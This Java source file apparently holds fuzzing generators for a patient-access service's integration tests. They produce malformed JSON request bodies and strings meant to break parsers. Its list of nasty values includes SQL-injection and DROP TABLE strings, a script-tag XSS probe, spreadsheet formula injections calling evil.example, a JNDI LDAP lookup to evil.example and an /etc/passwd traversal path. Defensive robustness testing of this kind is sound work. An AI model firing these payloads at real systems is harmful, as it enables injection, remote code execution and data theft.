package org.patientaccess.keycloak.it.support.fuzz;

import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * jqwik generators of bad input: strings that have broken parsers and columns before, any JSON
 * value, a valid JSON object mutated (fields left out, nulled, of the wrong type, huge, unknown),
 * and request bodies that are not JSON at all.
 */
public final class Junk {

    private static final ObjectMapper JSON = new ObjectMapper();

    /** Values met in the wild or known to trip parsers: formulas, injections, impossible dates, controls, bidi, emoji. */
    private static final List<String> NASTY = List.of(
            "", " ", "\t\r\n", "null", "0", "-1", "1e309", "NaN", "true", "[]", "{}",
            "=HYPERLINK(\"http://evil.example\",\"x\")", "=1+2", "+1-555-0100", "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0",
            "' OR '1'='1", "'; DROP TABLE PA_PATIENT_RECORD; --", "%", "_", "*", "\"", "\\", "\\u0000", "\u0000", "\u0000abc",
            "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
            "\u202Eevil", "\uFEFFMaria", "😀😀", "Zoë O'Brien-Łukasz", "ﬃ", "İstanbul", "\uD800", "\uDFFF",
            "2000-02-30", "1899-12-31", "9999-12-31", "-0001-01-01", "2000-1-1", "20000101", "2000-01-01T00:00:00Z",
            "0612345678", "+33 6 12 34 56 78", "+999999999999999999", "a@b", "x@y.test", "a@@b.test",
            "SELF", "PARENT", "GUARDIAN", "BOOK", "MANAGE_PROFILE", "any", "ACTIVE", "ARCHIVED", "MERGED", "asc", "desc");

    /** Characters whose folded or lower-case form is longer than the character itself. */
    private static final List<String> GROWING = List.of("ﬃ", "ß", "Æ", "ǅ", "İ", "ﷺ", "①", "㎒");

    private Junk() {
    }

    /** A bad string, now and then a huge one. */
    public static Arbitrary<String> strings() {
        return Arbitraries.frequencyOf(Tuple.of(11, text()), Tuple.of(1, huge()));
    }

    /** A bad string of at most a few hundred characters (nested values use these, to stay within a request's size). */
    public static Arbitrary<String> text() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(3, Arbitraries.strings().alpha().numeric().withChars(" -.,'@+_/").ofMaxLength(30)),
                Tuple.of(3, Arbitraries.of(NASTY)),
                Tuple.of(1, Arbitraries.of(GROWING).flatMap(c -> Arbitraries.integers().between(20, 110).map(c::repeat))));
    }

    /** A long run of one character: 1,000 to 300,000 of them. */
    public static Arbitrary<String> huge() {
        return Combinators.combine(Arbitraries.chars().all(), Arbitraries.integers().between(1_000, 300_000))
                .as((c, n) -> String.valueOf(c).repeat(n));
    }

    /** Any JSON value, nested up to {@code depth}. */
    public static Arbitrary<Object> value(int depth) {
        Arbitrary<Object> scalar = Arbitraries.frequencyOf(
                Tuple.of(1, Arbitraries.just(null)),
                Tuple.of(1, Arbitraries.of(true, false)),
                Tuple.of(2, Arbitraries.integers()),
                Tuple.of(1, Arbitraries.longs()),
                Tuple.of(1, Arbitraries.doubles()),
                Tuple.of(1, Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("9".repeat(500)).negate(), new BigDecimal("0.0000000001"))),
                Tuple.of(4, text()));
        if (depth == 0) {
            return scalar;
        }
        Arbitrary<Object> inner = value(depth - 1);
        return Arbitraries.frequencyOf(
                Tuple.of(6, scalar),
                Tuple.of(1, inner.injectNull(0.2).list().ofMaxSize(4).map(list -> list)),
                Tuple.of(1, Arbitraries.maps(text(), inner).ofMaxSize(4).map(map -> map)));
    }

    /**
     * A valid object mutated zero to three times: a field left out, nulled, replaced by any JSON
     * value or a bad string, or an unknown field added.
     */
    public static Arbitrary<Map<String, Object>> mutated(Map<String, Object> valid) {
        List<String> fields = new ArrayList<>(valid.keySet());
        Arbitrary<UnaryOperator<Map<String, Object>>> mutation = Combinators.combine(
                Arbitraries.of(fields), Arbitraries.integers().between(0, 4), value(3), strings())
                .as((field, kind, anyValue, badString) -> map -> {
                    switch (kind) {
                        case 0 -> map.remove(field);
                        case 1 -> map.put(field, null);
                        case 2 -> map.put(field, anyValue);
                        case 3 -> map.put(field, badString);
                        default -> map.put(badString.isEmpty() ? "dateOfBirth" : badString, anyValue);
                    }
                    return map;
                });
        return mutation.list().ofMaxSize(3).map(mutations -> {
            Map<String, Object> body = new LinkedHashMap<>(valid);
            mutations.forEach(m -> m.apply(body));
            return body;
        });
    }

    /**
     * A request body around a valid object: mostly the object mutated, else any JSON value, text
     * that is not JSON, the object cut short, or nesting deeper than any parser allows.
     */
    public static Arbitrary<String> body(Map<String, Object> valid) {
        return bodyAround(mutated(valid));
    }

    /** A request body around generated objects, as {@link #body(Map)} does around one. */
    public static Arbitrary<String> bodyAround(Arbitrary<?> objects) {
        Arbitrary<String> mutatedBody = objects.map(Junk::write);
        return Arbitraries.frequencyOf(
                Tuple.of(12, mutatedBody),
                Tuple.of(1, value(3).map(Junk::write)),
                Tuple.of(1, text()),
                Tuple.of(1, mutatedBody.flatMap(text -> Arbitraries.integers().between(0, text.length()).map(cut -> text.substring(0, cut)))),
                Tuple.of(1, Arbitraries.integers().between(900, 20_000).map(depth -> "{\"firstName\":".repeat(depth) + "1" + "}".repeat(depth))));
    }

    /** Whether a body is a well-formed JSON object, for which a 400 must name the field. */
    public static boolean isJsonObject(String body) {
        try {
            JsonNode node = JSON.readTree(body);
            return node != null && node.isObject();
        } catch (JsonProcessingException | RuntimeException e) {
            return false;
        }
    }

    public static String write(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
